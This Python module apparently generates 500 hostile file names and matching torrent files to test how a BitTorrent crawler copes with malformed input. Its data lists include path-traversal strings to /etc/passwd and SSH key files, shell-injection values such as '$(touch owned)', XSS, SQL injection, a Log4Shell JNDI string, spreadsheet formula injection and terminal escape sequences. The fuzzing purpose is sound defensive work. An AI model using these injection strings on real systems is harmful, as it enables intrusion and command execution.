"""500 names that people have hurt programs with, and torrents that bear them."""

from __future__ import annotations

import hashlib
import itertools
import random

import attrs

from crawler.wire import bencode

COUNT = 500

_CONTROLS = [bytes([byte]) for byte in (*range(0x20), 0x7F)]
_SINGLE_HIGH_BYTES = [b"a" + bytes([byte]) + b".mkv" for byte in range(0x80, 0x100)]
_ODD_CHARACTERS = [
    f"left{chr(point)}right".encode()
    for point in (
        *(
            0x85,
            0x9B,
            0xA0,
            0xAD,
            0x61C,
            0x180E,
            0x2000,
            0x200B,
            0x200C,
            0x200D,
            0x200E,
            0x200F,
            0x2028,
            0x2029,
        ),
        *(
            0x202A,
            0x202B,
            0x202C,
            0x202D,
            0x202E,
            0x2060,
            0x2066,
            0x2067,
            0x2068,
            0x2069,
            0x206A,
            0x3000,
            0xFDD0,
        ),
        *(
            0xFDFD,
            0xFEFF,
            0xFFF9,
            0xFFFC,
            0xFFFD,
            0xFFFE,
            0xFFFF,
            0x1D173,
            0x1F4A9,
            0xE0001,
            0xE0041,
            0x10FFFF,
        ),
    )
]
_NO_UTF8 = [
    *(b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xed\xa0\x80", b"\xed\xbf\xbf"),
    *(b"\xed\xa0\xbd\xed\xb2\xa9", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xfc\x84\x80\x80\x80\x80"),
    *(b"\xe2\x82", b"\xf0\x9f\x92", b"half \xc3", b"\xff\xfe\x61\x00", b"\xfe\xff\x00\x61", b"\x80" * 300),
]
_TERMINAL = [
    *(b"\x1b[2J\x1b[H", b"\x1b]0;owned\x07", b"\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\"),
    *(
        b"\x1b[31mred",
        b"\x9b2J",
        b"\x1bP$q q\x1b\\",
        b"\x1b[6n",
        b"\x1b]52;c;b3duZWQ=\x07",
        b"\x1bc",
        b"\x0e\x0f",
    ),
    *(
        b"over\rwritten",
        b"two\nlines",
        b"two\r\nlines",
        b"back\b\b\b\bspace",
        b"tab\tbed",
        b"bell\x07",
        b"\x00nul",
    ),
]
_PATHS = [
    *(
        b"..",
        b".",
        b"",
        b"/",
        b"//",
        b"\\",
        b"../../../../etc/passwd",
        b"/etc/passwd",
        b"..\\..\\windows\\win.ini",
    ),
    *(
        b"C:\\boot.ini",
        b"C:",
        b"\\\\server\\share",
        b"\\\\?\\C:\\x",
        b"CON",
        b"nul.txt",
        b"COM1",
        b"AUX.",
        b"LPT9.log",
    ),
    *(b"a:b", b"a.txt:stream", b"trailing.", b"trailing ", b" leading", b"~", b"~root/.ssh/authorized_keys"),
    *(
        b"-rf",
        b"--help",
        b"*",
        b"?",
        b"$HOME",
        b"$(touch owned)",
        b"`touch owned`",
        b";touch owned",
        b"|touch owned",
    ),
    *(
        b"&& touch owned",
        b"%00",
        b"%2e%2e%2f",
        b"..%c0%af",
        b"....//",
        b".git/config",
        b".bashrc",
        b"peers.jsonl",
    ),
    *(
        b"state",
        b"state/node.ipv4",
        b"heartbeat",
        b"a/../b",
        b"a//b",
        b"a/./b",
        b"/dev/null",
        b"/proc/self/environ",
    ),
    *(b"x" * 255, b"y" * 256, b"z" * 4096, b"\xf0\x9f\x92\xa9" * 1000, b"d/" * 200, b"w" * 70_000),
]
_SYNTAX = [
    *(
        b'"',
        b"'",
        b"\\",
        b'\\"',
        b'","type":"infohash","infohash":"',
        b'"}\n{"type":"infohash"}',
        b"\\u0000",
        b"\\ud800",
    ),
    *(
        b"{}",
        b"[]",
        b"null",
        b"true",
        b"NaN",
        b"1e999",
        b"-0",
        b"0x41",
        b"</script><script>alert(1)</script>",
    ),
    *(
        b"<img src=x onerror=alert(1)>",
        b"&lt;&amp;",
        b"<!--",
        b"]]>",
        b"<?xml version='1.0'?>",
        b"javascript:alert(1)",
    ),
    *(
        b"'; drop table lines; --",
        b'" or 1=1 --',
        b"%s%s%s%n",
        b"%d",
        b"{0.__class__}",
        b"{{7*7}}",
        b"${7*7}",
        b"#{7*7}",
    ),
    *(
        b"${jndi:ldap://192.0.2.1/a}",
        b"=cmd|' /C calc'!A0",
        b"+1+1",
        b"@SUM(1)",
        b"-2+3",
        b"a,b;c\td",
        b"d4:name1:xe",
    ),
    *(
        b"i1e",
        b"le",
        b"de",
        b"4:spam",
        b"99999999999:",
        b"__proto__",
        b"constructor",
        b"toString",
        b"undefined",
    ),
]
_WORDS = {
    "cp1251": "Музыка.зима",
    "koi8-r": "Кино.лето",
    "shift_jis": "日本語の名前",
    "euc-jp": "東京物語",
    "gb18030": "中文电影",
    "big5": "繁體中文",
    "euc-kr": "한국어 이름",
    "cp1253": "Ελληνικά",
    "cp1255": "שלום עולם",
    "cp1256": "مرحبا بالعالم",
    "iso8859-9": "İstanbul şark\u0131lar",
    "cp874": "ภาพยนตร์ไทย",
    "utf-16-le": "wide",
    "utf-7": "Übung",
    "cp037": "ebcdic",
}


@attrs.frozen
class NastyTorrent:
    """A torrent with a nasty name, and the same name as a component of a path."""

    name: bytes
    info: bytes

    @property
    def infohash(self) -> bytes:
        """The SHA-1 of its info dict."""
        return hashlib.sha1(self.info).digest()  # noqa: S324 - BEP 3's choice


def nasty_names() -> list[bytes]:
    """Return 500 names, no two alike: those above in both directions of trouble, the rest drawn by a seed."""
    encoded = [word.encode(encoding) for encoding, word in _WORDS.items()]
    said = [word.encode() for word in _WORDS.values()]
    names = list(
        dict.fromkeys(
            itertools.chain(
                *(_CONTROLS, _SINGLE_HIGH_BYTES, _ODD_CHARACTERS, _NO_UTF8, _TERMINAL, _PATHS, _SYNTAX),
                *(encoded, said),
            )
        )
    )
    rng = random.Random(500)
    while len(names) < COUNT:
        drawn = rng.randbytes(rng.randrange(1, 60))
        if drawn not in names:
            names.append(drawn)
    assert len(names) == COUNT
    return names


def nasty_torrents() -> list[NastyTorrent]:
    """Return a torrent for each name."""
    return [_torrent(name, number) for number, name in enumerate(nasty_names())]


def _torrent(name: bytes, number: int) -> NastyTorrent:
    paths = [[name], [b"dir", name], [name, b"file"], [b"..", name], [name, name]]
    files = [{b"length": at + 1, b"path": path} for at, path in enumerate(paths)]
    info = {b"files": files, b"name": name, b"piece length": 16384, b"pieces": number.to_bytes(20, "big")}
    return NastyTorrent(name, bencode.encode(info))
